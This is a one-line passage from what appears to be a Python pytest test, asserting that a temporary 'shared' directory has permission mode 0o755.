    assert oct(stat.S_IMODE((tmp_path / "shared").stat().st_mode)) == oct(0o755)
